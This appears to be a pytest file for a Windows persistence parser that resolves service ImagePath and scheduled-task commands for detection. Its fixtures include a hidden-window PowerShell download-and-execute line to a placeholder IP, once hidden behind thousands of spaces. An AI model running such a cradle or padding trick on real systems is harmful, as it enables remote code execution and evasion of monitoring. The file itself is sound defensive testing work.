"""What a service's ``ImagePath`` or a task's ``Exec`` runs, read as Windows reads it (review findings).

Padding never cuts a command (its key would be another node's), an unquoted service
command names its program as ``CreateProcess`` finds it, a task's command is quoted
whether or not it has arguments, Windows' own task limits are read, and 4697's and
7045's words for a service's type and start are one vocabulary.
"""

from __future__ import annotations

from typing import Any

import pytest

from ingest.parsers.task_definitions import TASK_ACTIONS, parse_task_content
from ingest.parsers.windows_persistence import (
    command_line_of,
    put_service,
    put_task,
    service_command_line,
    task_command_line,
)

CMD = "C:\\Windows\\System32\\cmd.exe"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
PAYLOAD = "& powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a)"
PADDED = "C:\\Windows\\system32\\cmd.exe /c echo ok" + " " * 8200 + PAYLOAD


def test_a_padded_service_command_keeps_its_payload() -> None:
    fields: dict[str, Any] = {}
    put_service(fields, name="EvilSvc", image_path=PADDED)
    assert fields["process.command_line"] == PADDED
    assert fields["process.command_line"].endswith("iex(iwr http://198.51.100.7/a)")
    assert fields["process.executable"] == "C:\\Windows\\system32\\cmd.exe"


def test_a_padded_task_argument_keeps_its_payload() -> None:
    arguments = "/c echo ok" + " " * 9000 + PAYLOAD
    executable, line = task_command_line("cmd.exe", arguments)
    assert executable == CMD and line == "cmd.exe " + arguments


@pytest.mark.parametrize(("image_path", "executable"), [
    ("cmd /c start /b C:\\Users\\Public\\evil.exe -s", CMD),
    ("powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a)", POWERSHELL),
    ("rundll32 C:\\Users\\Public\\x.dll,Start", "C:\\Windows\\System32\\rundll32.exe"),
    ("evil -s", "evil.exe"),
    ("C:\\Windows\\System32\\cmd.exe /c start /b C:\\Users\\Public\\evil.exe -s", CMD),
    # a path with spaces, unquoted: Windows tries each blank in turn, up to the .exe
    ("C:\\Program Files\\Vendor Tool\\svc.exe -k run", "C:\\Program Files\\Vendor Tool\\svc.exe"),
    ('"C:\\Program Files\\Vendor Tool\\svc.exe" -k run', "C:\\Program Files\\Vendor Tool\\svc.exe"),
    ("\\SystemRoot\\System32\\drivers\\evil.sys", "C:\\Windows\\System32\\drivers\\evil.sys"),
    # a file name without extension runs its .exe (CreateProcess), with a folder too (review R24)
    ("C:\\ProgramData\\x\\svc -k run", "C:\\ProgramData\\x\\svc.exe"),
    ('"C:\\Program Files\\Vendor Tool\\svc" -k run', "C:\\Program Files\\Vendor Tool\\svc.exe"),
    ("C:\\Program Files\\Vendor Tool\\svc -k run", "C:\\Program Files\\Vendor Tool\\svc.exe"),
    ("C:\\Program Files\\Vendor Tool\\my svc.exe -k", "C:\\Program Files\\Vendor Tool\\my svc.exe"),
    ("C:\\Tools\\svc run C:\\Tools\\other.exe", "C:\\Tools\\svc.exe"),
    ("C:\\Vendor.Inc\\svc", "C:\\Vendor.Inc\\svc.exe"),
    ("C:\\Tools\\svc.com /s", "C:\\Tools\\svc.com"),
    ("C:\\Tools\\svc. /s", "C:\\Tools\\svc"),
], ids=["cmd", "powershell", "rundll32", "unknown bare name", "qualified cmd", "unquoted spaces", "quoted",
        "driver", "folder, no extension", "quoted, no extension", "unquoted spaces, no extension",
        "unquoted spaces in the file name", "an argument ending in .exe", "a dot in the folder", "another extension",
        "a trailing dot"])
def test_an_unquoted_service_command_names_the_program_createprocess_runs(image_path: str, executable: str) -> None:
    got, line = service_command_line(image_path)
    assert got.lower() == executable.lower()
    assert line == image_path.replace("\\SystemRoot", "C:\\Windows")


@pytest.mark.parametrize(("command", "arguments", "line"), [
    ("C:\\Program Files\\Contoso\\updater.exe", "", '"C:\\Program Files\\Contoso\\updater.exe"'),
    ("C:\\Program Files\\Contoso\\updater.exe", "/silent", '"C:\\Program Files\\Contoso\\updater.exe" /silent'),
    ('"C:\\Program Files\\Contoso\\updater.exe"', "", '"C:\\Program Files\\Contoso\\updater.exe"'),
    ("C:\\Tools\\run.exe", "", "C:\\Tools\\run.exe"),
    ("C:\\My Tools\\run.bat", "", '"C:\\My Tools\\run.bat"'),
])
def test_a_task_command_with_a_space_is_quoted_with_or_without_arguments(command: str, arguments: str,
                                                                         line: str) -> None:
    assert task_command_line(command, arguments)[1] == line
    assert command_line_of(command, arguments)[1] == line


def test_a_task_command_without_extension_runs_the_exe() -> None:
    assert task_command_line("powershell", "-nop") == (POWERSHELL, "powershell.exe -nop")


def test_a_task_command_with_a_folder_and_no_extension_runs_the_exe() -> None:
    svc = "C:\\ProgramData\\x\\svc.exe"
    assert task_command_line("C:\\ProgramData\\x\\svc", "/q") == (svc, f"{svc} /q")
    assert task_command_line("%ProgramData%\\x\\svc") == (svc, svc)


@pytest.mark.parametrize(("variable", "path"), [
    ("%PUBLIC%", "C:\\Users\\Public"), ("%ALLUSERSPROFILE%", "C:\\ProgramData"),
    ("%ProgramData%", "C:\\ProgramData"), ("%CommonProgramFiles%", "C:\\Program Files\\Common Files"),
])
def test_default_install_variables_are_expanded(variable: str, path: str) -> None:
    assert service_command_line(f"{variable}\\a\\b.exe -x") == (f"{path}\\a\\b.exe", f"{path}\\a\\b.exe -x")


# -- task limits --------------------------------------------------------------------------------

_MONTHLY = ("<CalendarTrigger><StartBoundary>2024-01-01T03:00:00</StartBoundary><Enabled>true</Enabled>"
            "<ScheduleByMonth><DaysOfMonth>" + "".join(f"<Day>{d}</Day>" for d in range(1, 32)) + "</DaysOfMonth>"
            "<Months>" + "".join(f"<{m}/>" for m in ("January", "February", "March", "April", "May", "June", "July",
                                                    "August", "September", "October", "November", "December"))
            + "</Months></ScheduleByMonth></CalendarTrigger>")


def _task(triggers: int, actions: int) -> str:
    execs = "".join(f"<Exec><Command>C:\\Tools\\a{i}.exe</Command><Arguments>-n {i}</Arguments></Exec>"
                    for i in range(actions))
    return ('<?xml version="1.0" encoding="UTF-16"?><Task version="1.2" '
            'xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">'
            f"<Triggers>{_MONTHLY * triggers}</Triggers>"
            "<Principals><Principal id=\"Author\"><UserId>S-1-5-18</UserId></Principal></Principals>"
            f'<Actions Context="Author">{execs}</Actions></Task>')


def test_a_task_of_eleven_monthly_calendar_triggers_is_read() -> None:
    task = parse_task_content(_task(11, 1))
    assert task.actions == [("C:\\Tools\\a0.exe", "-n 0")] and task.triggers == ["CalendarTrigger"]


def test_a_task_at_windows_limits_is_read_whole() -> None:
    """48 triggers (Windows' limit) of the largest kind and 32 actions: every action read."""
    task = parse_task_content(_task(48, 32))
    assert len(task.actions) == 32 and task.actions_dropped == 0


def test_every_action_windows_allows_is_read_and_more_are_counted() -> None:
    fields: dict[str, Any] = {}
    put_task(fields, name="t", content=_task(1, 34))
    assert TASK_ACTIONS == 32
    assert fields["task.command_lines"][16] == "C:\\Tools\\a16.exe -n 16"
    assert len(fields["task.command_lines"]) == 32 and fields["task.actions_dropped"] == 2


def test_json_task_actions_past_the_limit_are_counted() -> None:
    content = {"Actions": {"Exec": [{"Command": f"a{i}.exe"} for i in range(40)]}}
    fields: dict[str, Any] = {}
    put_task(fields, name="t", content=content)
    assert len(fields["task.executables"]) == 32 and fields["task.actions_dropped"] == 8


def test_a_task_within_limits_records_nothing_dropped() -> None:
    fields: dict[str, Any] = {}
    put_task(fields, name="t", content=_task(2, 2))
    assert "task.actions_dropped" not in fields and len(fields["task.command_lines"]) == 2


# -- one vocabulary for a service's type and start ------------------------------------------------


@pytest.mark.parametrize(("service_type", "start_type", "words"), [
    ("0x10", "3", ("user mode service", "demand start")),
    (16, 2, ("user mode service", "auto start")),
    ("0x20", "4", ("user mode service", "disabled")),
    ("0x1", "0", ("kernel mode driver", "boot start")),
    ("0x2", "1", ("file system driver", "system start")),
    ("user mode service", "demand start", ("user mode service", "demand start")),
    ("User Mode Service", "Auto Start", ("user mode service", "auto start")),
    ("0x4000", "9", ("0x4000", "9")),  # unknown numbers stay as written
])
def test_service_type_and_start_type_are_7045_s_words(service_type: object, start_type: object,
                                                      words: tuple[str, str]) -> None:
    fields: dict[str, Any] = {}
    put_service(fields, name="s", image_path="C:\\a.exe", service_type=service_type, start_type=start_type)
    assert (fields["service.type"], fields["service.start_type"]) == words
